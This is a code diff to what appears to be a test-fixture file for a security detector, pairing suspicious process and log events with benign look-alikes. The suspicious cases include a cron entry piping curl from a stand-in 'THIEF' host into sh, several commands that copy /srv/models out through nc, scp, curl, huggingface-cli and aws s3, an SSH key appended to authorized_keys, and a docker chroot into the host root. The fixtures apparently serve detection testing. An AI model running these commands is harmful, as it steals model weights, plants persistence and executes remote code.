@@ -53,6 +53,7 @@ STRANGE: Final = AttackStep(
         (process("sh -c echo ssh-ed25519 AAAA x >> /home/ubuntu/.ssh/authorized_keys"),),
         (process(f"pip install --index-url http://{THIEF}/simple torch", "/usr/bin/pip"),),
         (process("docker run -it -v /:/host alpine chroot /host", "/usr/bin/docker"),),
+        ({"sourcetype": "linux_secure", "event": f"<iso> gpu-01 CRON[7]: (bob) CMD (curl -s http://{THIEF}/x | sh)"},),
     ),
     (
         (process("bash -c </dev/tcp/db.example.org/5432"),),
@@ -65,6 +66,12 @@ STRANGE: Final = AttackStep(
         (process("nc -z db 5432", "/usr/bin/nc"),),
         (process("pip install --index-url http://10.8.0.9/simple torch", "/usr/bin/pip"),),
         (process("powershell Invoke-WebRequest https://example.org/data.zip -OutFile data.zip"),),
+        (
+            {
+                "sourcetype": "linux_secure",
+                "event": "<iso> gpu-01 CRON[7]: (root) CMD (cd / && run-parts /etc/cron.hourly)",
+            },
+        ),
     ),
 )
 
@@ -78,6 +85,9 @@ SENT: Final = AttackStep(
         (process(f"scp -r /srv/models root@{THIEF}:/tmp", "/usr/bin/scp"),),
         (process(f"bash -c tar czf - /srv/models | nc {THIEF} 9001"),),
         (process(f"curl -T {_PACKED} http://{THIEF}:8000/", "/usr/bin/curl"),),
+        (process("huggingface-cli upload drop/d /srv/models --private", "/usr/bin/huggingface-cli"),),
+        (process("aws s3 cp --recursive /srv/models s3://drop/ --no-sign-request", "/usr/bin/aws"),),
+        (process(f"aws --endpoint-url http://{THIEF}:9000 s3 sync /srv/models s3://d/", "/usr/bin/aws"),),
         (process(f"powershell iwr -Method Put -InFile D:\\models\\d.onnx -Uri http://{THIEF}/u", "powershell.exe"),),
     ),
     (
@@ -89,6 +99,10 @@ SENT: Final = AttackStep(
         (process("curl -O https://transfer.sh/get/x", "/usr/bin/curl"),),
         (process("curl -F file=@m.json http://10.8.0.22:8080/v2/models/digits/infer", "/usr/bin/curl"),),
         (process(f"curl -O http://{THIEF}/x", "/usr/bin/curl"),),
+        (process("huggingface-cli download bert-base-uncased", "/usr/bin/huggingface-cli"),),
+        (process("aws s3 cp s3://open-images/train.csv . --no-sign-request", "/usr/bin/aws"),),
+        (process("aws --endpoint-url http://10.8.0.9:9000 s3 sync /srv/models s3://d/", "/usr/bin/aws"),),
+        (process("aws s3 sync /srv/models s3://models-backup/", "/usr/bin/aws"),),
     ),
 )
 
